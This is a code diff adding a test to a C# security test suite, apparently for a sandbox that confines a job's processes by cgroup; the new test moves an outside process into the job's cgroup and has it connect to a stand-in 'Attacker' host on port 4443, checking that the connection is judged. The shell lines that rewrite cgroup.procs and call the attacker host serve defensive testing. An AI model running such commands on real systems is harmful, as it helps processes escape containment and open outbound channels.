@@ -3,6 +3,8 @@ namespace Sallyport.Kernel.Tests;
 /// <summary>HARDENING rule 1: whatever a process of the job becomes, it stays one of the job.</summary>
 public sealed class LineageTests(LabFixture fixture) : KernelTest(fixture), IClassFixture<LabFixture>
 {
+    private static readonly TimeSpan s_deadline = TimeSpan.FromSeconds(20);
+
     [Theory]
     [EveryMode("thread", "sibling")]
     public Task No_unusual_birth_leaves_the_job(LabMode mode, string how) => ProveAsync(mode, Connecting(
@@ -19,6 +21,33 @@ public sealed class LineageTests(LabFixture fixture) : KernelTest(fixture), ICla
         $"mkdir {Lab.CgroupRoot}/{Canary} && echo $$ > {Lab.CgroupRoot}/{Canary}/cgroup.procs",
         $"{Program("tcp")} connect {Attacker} 4443 {Canary} || true",
         $"echo $$ > {Lab.CgroupRoot}/cgroup.procs && rmdir {Lab.CgroupRoot}/{Canary}"));
+
+    /// <summary>It has no tag: it comes from outside, and is the job's from then on.</summary>
+    [Theory]
+    [EveryMode]
+    public Task A_process_that_is_moved_into_the_jobs_cgroup_is_judged(LabMode mode) => ProveAsync(mode, new Attack
+    {
+        Command = Script(
+            "echo started",
+            $"until [ -e /run/lab/work/{Canary} ]; do sleep 0.01; done",
+            $"rm /run/lab/work/{Canary}") with
+        {
+            Meanwhile = async job =>
+            {
+                await job.SaysAsync("started", s_deadline);
+                _ = await Lab.OutsideAsync(
+                    "sh",
+                    "-c",
+                    $"for g in {Lab.CgroupRoot}/sallyport-*; do [ ! -d $g ] || echo $$ > $g/cgroup.procs || exit; done\n"
+                    + $"exec {Program("tcp")} connect {Attacker} 4443 {Canary}");
+                await File.WriteAllTextAsync(Path.Combine(Lab.WorkFolder, Canary), "");
+            },
+        },
+        Row = Row.Connection("tcp", 4443, Attacker),
+        Reasons = ["no-rule"],
+        Exe = null,
+        Silent = (Attacker, 4443),
+    });
 
     [Theory]
     [EveryMode]
